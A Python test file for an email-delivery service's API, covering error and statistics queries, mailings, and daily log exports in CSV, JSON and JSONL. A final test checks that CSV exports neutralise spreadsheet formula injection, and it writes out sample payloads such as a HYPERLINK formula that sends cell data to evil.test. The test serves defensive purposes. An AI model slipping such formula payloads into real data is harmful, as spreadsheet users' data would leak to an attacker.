        k: before[k] for k in ("errortype", "reason", "step", "domain")}
    [fay] = errors(app, ro, "recipient=fay@dest.test")["errors"]
    assert fay["severity"] == "soft"
    assert [e["severity"] for e in errors(app, ro, "recipient=fay@dest.test&history=true"
                                          "&sort=id&order=asc")["errors"]] == ["hard", "soft"]
    assert errors(app, ro, "severity=soft")["total"] == 3


BAD_STATISTICS = [
    ("since=2026-02-01&until=2026-01-01", 400, "since is after until"),
    ("since=2000-01-01&until=2026-01-01", 400, "at most 3660 days"),
    ("until=0001-01-05", 400, "out of range"),
    ("until=9999-12-31", 400, "out of range"),
    ("since=yesterday", 422, None),
    ("until=2026-02-30", 422, None),
    ("mailing=spring", 422, None),
    ("mailing=-1", 422, None),
]


def test_bad_statistics(app: TestClient, ro: dict[str, str]) -> None:
    for query, status, message in BAD_STATISTICS:
        detail = problem(app.get(f"/api/v1/statistics?{query}", headers=ro), status)
        assert message is None or message in detail, query


def test_mailings(world: World, app: TestClient, ro: dict[str, str]) -> None:
    r = app.get("/api/v1/mailings", headers=ro)
    assert r.status_code == 200
    got = r.json()
    assert [(m["id"], m["name"], m["sender"], m["messages"]) for m in got] == [
        (world.mailing["spring"], "spring", NEWS, 6),
        (world.mailing["autumn"], "autumn", SHOP, 6)]
    assert got[1]["created_at"] == world.at(0, 8).isoformat().replace("+00:00", "Z")
    assert [m["name"] for m in app.get("/api/v1/mailings?limit=1", headers=ro).json()] == [
        "spring"]
    problem(app.get("/api/v1/mailings?limit=0", headers=ro), 422)
    problem(app.get("/api/v1/mailings?limit=1001", headers=ro), 422)


def test_mailings_empty(app: TestClient, ro: dict[str, str]) -> None:
    assert app.get("/api/v1/mailings", headers=ro).json() == []


@dataclass(frozen=True)
class Log:
    kind: str
    day: int
    """Which of the World's days."""
    rows: list[tuple[str, ...]]
    """What each row of the day says, oldest first (the fields of ``fields``)."""
    fields: tuple[str, ...]


LOGS = [
    Log("errors", 0, [("hal@other.test", "authfailure"), ("Ann@Dest.test", "mailboxfull"),
                      ("kim@other.test", "expired")], ("recipient", "reason")),
    Log("retries", 0, [("ivy@dest.test", "451", "error")], ("recipient", "code", "result")),
    Log("deliveries", 1, [("ivy@dest.test", "250", "accepted")],
        ("recipient", "code", "result")),
    Log("attempts", 0, [("gus@dest.test", "250"), ("hal@other.test", "550"),
                        ("Ann@Dest.test", "552"), ("ivy@dest.test", "451"),
                        ("jo@dest.test", "250"), ("kim@other.test", "452")],
        ("recipient", "code")),
    Log("bounces", 2, [("complaint", "jo@dest.test", ""),
                       ("failure", "", "stranger@else.test")],
        ("kind", "recipient", "reported_recipient")),
    Log("webhook-errors", 1, [("refused", "http://127.0.0.1:9/hook")], ("error", "url")),
]


def cell(value: Any) -> str:
    return "" if value is None else str(value)


def test_logs(world: World, app: TestClient, ro: dict[str, str]) -> None:
    for log in LOGS:
        check_log(world, app, ro, log)


def check_log(world: World, app: TestClient, ro: dict[str, str], log: Log) -> None:
    day = world.days[log.day]
    base = f"/api/v1/logs/{log.kind}/{day.isoformat()}"
    r = app.get(base, headers=ro)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == (
        f'attachment; filename="{log.kind}-{day.isoformat()}.csv"')
    table = list(csv.DictReader(io.StringIO(r.text)))
    assert tuple(next(csv.reader(io.StringIO(r.text)))) == columns(log.kind)
    assert [tuple(row[f] for f in log.fields) for row in table] == log.rows
    as_json = app.get(base + "?format=json", headers=ro)
    assert as_json.headers["content-type"] == "application/json"
    rows = as_json.json()
    assert [tuple(cell(row[f]) for f in log.fields) for row in rows] == log.rows
    assert all(tuple(row) == columns(log.kind) for row in rows)
    lines = app.get(base + "?format=jsonl", headers=ro)
    assert lines.headers["content-type"] == "application/x-ndjson"
    assert [json.loads(line) for line in lines.text.splitlines()] == rows
    # Oldest first.
    when = "received_at" if log.kind == "bounces" else (
        "timestamp" if log.kind == "errors" else
        "time" if log.kind == "webhook-errors" else "started_at")
    assert [row[when] for row in rows] == sorted(row[when] for row in rows)
    assert all(row[when].startswith(day.isoformat()) for row in rows)
    # A day with nothing: the header only, an empty array, no lines.
    empty = f"/api/v1/logs/{log.kind}/{(world.days[0] - timedelta(days=10)).isoformat()}"
    assert app.get(empty, headers=ro).text.splitlines() == [",".join(columns(log.kind))]
    assert app.get(empty + "?format=json", headers=ro).json() == []
    assert app.get(empty + "?format=jsonl", headers=ro).text == ""


def test_log_rows_stand_on_their_own(world: World, app: TestClient, ro: dict[str, str]
                                     ) -> None:
    [retry] = app.get(f"/api/v1/logs/retries/{world.days[0]}?format=json",
                      headers=ro).json()
    assert {k: retry[k] for k in ("message_id", "recipient", "mailing_id", "sender", "step",
                                  "state", "extended", "final", "duration_ms")} == {
        "message_id": world.id["ivy@dest.test"], "recipient": "ivy@dest.test",
        "mailing_id": world.mailing["autumn"], "sender": SHOP, "step": 4,
        "state": "rcptto", "extended": "4.7.1", "final": False, "duration_ms": 120}
    today = world.now.date().isoformat()
    got = app.get(f"/api/v1/logs/bounces/{today}?format=json", headers=ro).json()
    [dsn] = got
    assert {k: dsn[k] for k in ("id", "kind", "message_id", "recipient", "tied_by",
                                "status", "rcpts", "size", "peer")} == {
        "id": world.received["dsn"], "kind": "failure",
        "message_id": world.id["fay@dest.test"], "recipient": "fay@dest.test",
        "tied_by": "verp", "status": "processed",
        "rcpts": [world.envelope("fay@dest.test")], "size": len(world.raw["dsn"]),
        "peer": "192.0.2.7"}
    assert "raw" not in dsn
    # Today's errors: the spring failures and fay's bounce, in time order.
    spring = app.get(f"/api/v1/logs/errors/{today}?format=json", headers=ro).json()
    assert [e["recipient"] for e in spring] == ["bob@dest.test", "di@dead.test",
                                                "eve@other.test", "fay@dest.test"]
    # The errors log keeps replaced rows (current false): the stranger's day has both.
    stranger = app.get(f"/api/v1/logs/errors/{world.days[2]}?format=json", headers=ro).json()
    assert [(e["recipient"], e["reported_recipient"], e["current"]) for e in stranger] == [
        ("", "stranger@else.test", False), ("", "stranger@else.test", True)]


BAD_LOGS = [
    ("/api/v1/logs/nope/2026-11-01", 422),
    ("/api/v1/logs/Errors/2026-11-01", 422),
    ("/api/v1/logs/errors/yesterday", 422),
    ("/api/v1/logs/errors/2026-13-01", 422),
    ("/api/v1/logs/errors/2026-11-01?format=xml", 422),
    ("/api/v1/logs/errors/9999-12-31", 400),
]


def test_bad_logs(app: TestClient, ro: dict[str, str]) -> None:
    for path, status in BAD_LOGS:
        problem(app.get(path, headers=ro), status)



HOSTILE = ["=1+2@dest.test", "-ann@dest.test", "+bob@dest.test"]
HOSTILE_HELO = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def test_csv_exports_neutralise_formulas_and_json_keeps_them(
        engine: Engine, app: TestClient, rw: dict[str, str], ro: dict[str, str]) -> None:
    # Text from outside that a spreadsheet would run (OWASP "CSV Injection"): addresses
    # from a signup form (= + - are atext, RFC 5322 3.2.3) and the HELO name and envelope
    # sender of whoever connects to our inbound server.
    w = World(engine, app, rw)
    w.send_api("evil", [{"email": r} for r in HOSTILE], subject="Hi", text="Hello.")
    w.now = utcnow()
    for n, rcpt in enumerate(HOSTILE):
        w.deliver(rcpt, UNKNOWN, w.now + timedelta(seconds=n))
    [rid] = received.store_many(engine, [received.Incoming(
        raw=bounces.unknown(b"Subject: x\r\n\r\n"), mail_from="-x@evil.test",
        rcpts=("nobody@" + DOMAIN,), received_at=w.now, peer="192.0.2.7",
        helo=HOSTILE_HELO)])
    w.process(rid, w.now)
    today = w.now.date().isoformat()
    for path, quoted in [
        ("/api/v1/errors/export?sort=id&order=asc", {"recipient": HOSTILE}),
        (f"/api/v1/logs/errors/{today}", {"recipient": HOSTILE}),
        (f"/api/v1/logs/attempts/{today}", {"recipient": HOSTILE}),
        (f"/api/v1/logs/bounces/{today}", {"helo": [HOSTILE_HELO],
                                           "mail_from": ["-x@evil.test"]}),
    ]:
        sep = "&" if "?" in path else "?"
        as_json = app.get(f"{path}{sep}format=json", headers=ro).json()
        lines = app.get(f"{path}{sep}format=jsonl", headers=ro).text.splitlines()
        assert [json.loads(line) for line in lines] == as_json, path
        table = list(csv.DictReader(io.StringIO(
            app.get(f"{path}{sep}format=csv", headers=ro).text, newline="")))
        assert len(table) == len(as_json) > 0, path
        for name, values in quoted.items():
            exact = [row[name] for row in as_json if row[name]]
            assert exact == values, (path, name)
            assert [row[name] for row in table if row[name]] == ["'" + v for v in values]
        # Every other cell says what the JSON says; numbers (ids, steps, sizes) as numbers.
        for c, j in zip(table, as_json, strict=True):
            assert {k: v for k, v in c.items() if k not in quoted} == {
                k: _as_csv(j[k]) for k in c if k not in quoted}, path


def _as_csv(value: Any) -> str:
    """A JSON value as the CSV writes a cell with nothing to neutralise."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False)
    return str(value)
